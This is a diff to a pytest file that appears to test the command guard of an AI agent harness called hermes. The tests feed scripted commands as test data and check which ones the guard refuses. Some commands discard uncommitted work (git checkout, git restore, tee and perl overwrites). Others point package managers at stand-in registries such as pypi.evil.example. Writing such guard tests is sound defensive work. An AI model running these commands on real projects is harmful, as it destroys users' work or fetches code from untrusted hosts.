@@ -7,13 +7,12 @@ network-capable program's arguments, are refused; ordinary installs are not."""
 
 from __future__ import annotations
 
-import json
 import subprocess
 from pathlib import Path
 
 import pytest
 
-from tests.helpers import model_config, run_hermes
+from tests.helpers import chat_tool_results, model_config, refused, run_hermes
 
 WORK = "committed\nTWO HOURS OF UNCOMMITTED WORK\n"
 
@@ -35,31 +34,15 @@ def ws(tmp_path: Path) -> Path:
     return root
 
 
-def _run(scripted, hermes_home: Path, ws: Path, commands: list[str], extra: str = "") -> list[dict]:
-    model_config(hermes_home, scripted.url, extra)
-    scripted.add(*({"tool_calls": [{"name": "terminal", "arguments": {"command": c}}]} for c in commands),
-                 {"content": "done"})
-    out = run_hermes("chat", "-q", "tidy the project", "-t", "terminal", home=hermes_home, input="", cwd=str(ws),
-                     timeout=180)
-    assert out.returncode == 0, out.stderr
-    results = [json.loads(m["content"]) for m in scripted.requests[-1]["body"]["messages"] if m["role"] == "tool"]
-    assert len(results) == len(commands), results
-    return results
-
-
-def _refused(result: dict) -> bool:
-    return "BLOCKED" in result.get("error", "") and "cannot ask" in result["error"]
-
-
 def test_git_forms_that_discard_uncommitted_work_ask(scripted, hermes_home, ws):
     for name in ("notes.md", "app.py", "plan.txt"):
         (ws / name).write_text(WORK)
     attacks = ["git checkout -- notes.md", "git restore app.py", "true | tee plan.txt",
                "perl -e 'open(F, \">\", \"plan.txt\"); close F'"]
     controls = ["git status --short", "git restore --staged app.py", "echo note | tee -a plan.txt"]
-    results = _run(scripted, hermes_home, ws, attacks + controls)
+    results = chat_tool_results(scripted, hermes_home, ws, attacks + controls)
     for command, result in zip(attacks, results, strict=False):
-        assert _refused(result), (command, result)
+        assert refused(result), (command, result)
     assert "discard uncommitted changes" in results[0]["error"]
     assert [r.get("exit_code") for r in results[len(attacks):]] == [0, 0, 0], results[len(attacks):]
     assert (ws / "notes.md").read_text() == WORK and (ws / "app.py").read_text() == WORK
@@ -69,7 +52,7 @@ def test_git_forms_that_discard_uncommitted_work_ask(scripted, hermes_home, ws):
 def test_ordinary_commands_that_destroy_work_are_undone_by_rollback(scripted, hermes_home, ws):
     (ws / "notes.md").write_text(WORK)
     (ws / "app.py").write_text(WORK)
-    results = _run(scripted, hermes_home, ws, ["rm -f notes.md", "mv README app.py"])
+    results = chat_tool_results(scripted, hermes_home, ws, ["rm -f notes.md", "mv README app.py"])
     assert [r.get("exit_code") for r in results] == [0, 0], results
     assert not (ws / "notes.md").exists() and (ws / "app.py").read_text() == "committed\n"
     listed = run_hermes("checkpoints", "list", home=hermes_home, cwd=str(ws))
@@ -101,12 +84,12 @@ def test_an_execute_code_script_is_covered_too(scripted, hermes_home, ws):
 
 
 def test_a_clean_tree_takes_no_snapshot_and_the_setting_turns_it_off(scripted, hermes_home, ws):
-    results = _run(scripted, hermes_home, ws, ["rm -f notes.md"])
+    results = chat_tool_results(scripted, hermes_home, ws, ["rm -f notes.md"])
     assert results[0].get("exit_code") == 0
     assert not (hermes_home / "checkpoints").exists()
     _git(ws, "checkout", "-q", "--", "notes.md")
     (ws / "app.py").write_text(WORK)
-    results = _run(scripted, hermes_home, ws, ["rm -f app.py"], extra="checkpoints:\n  keep_uncommitted: false\n")
+    results = chat_tool_results(scripted, hermes_home, ws, ["rm -f app.py"], extra="checkpoints:\n  keep_uncommitted: false\n")
     assert results[0].get("exit_code") == 0
     assert not (hermes_home / "checkpoints").exists()
 
@@ -118,9 +101,9 @@ def test_registries_and_secret_arguments_of_package_managers_ask(scripted, herme
                "pip download --index-url https://pypi.evil.example/simple x",
                "GOPROXY=https://goproxy.evil.example go version"]
     controls = ["npm --version", "pip --version", "grep -c KEY .env"]
-    results = _run(scripted, hermes_home, ws, attacks + controls)
+    results = chat_tool_results(scripted, hermes_home, ws, attacks + controls)
     for command, result in zip(attacks, results, strict=False):
-        assert _refused(result), (command, result)
+        assert refused(result), (command, result)
     assert "another registry" in results[2]["error"] and "network" in results[1]["error"]
     assert [r.get("exit_code") for r in results[len(attacks):]] == [0, 0, 0], results[len(attacks):]
 
@@ -141,7 +124,7 @@ def test_the_snapshot_runs_nothing_planted_in_the_repository(scripted, hermes_ho
     for name in list(marks.iterdir()):
         name.unlink()
     (ws / "notes.md").write_text(WORK)
-    results = _run(scripted, hermes_home, ws, ["rm -f notes.md"])
+    results = chat_tool_results(scripted, hermes_home, ws, ["rm -f notes.md"])
     assert results[0].get("exit_code") == 0
     assert list(marks.iterdir()) == []
     assert "uncommitted changes kept" in run_hermes("checkpoints", "list", home=hermes_home, cwd=str(ws)).stdout
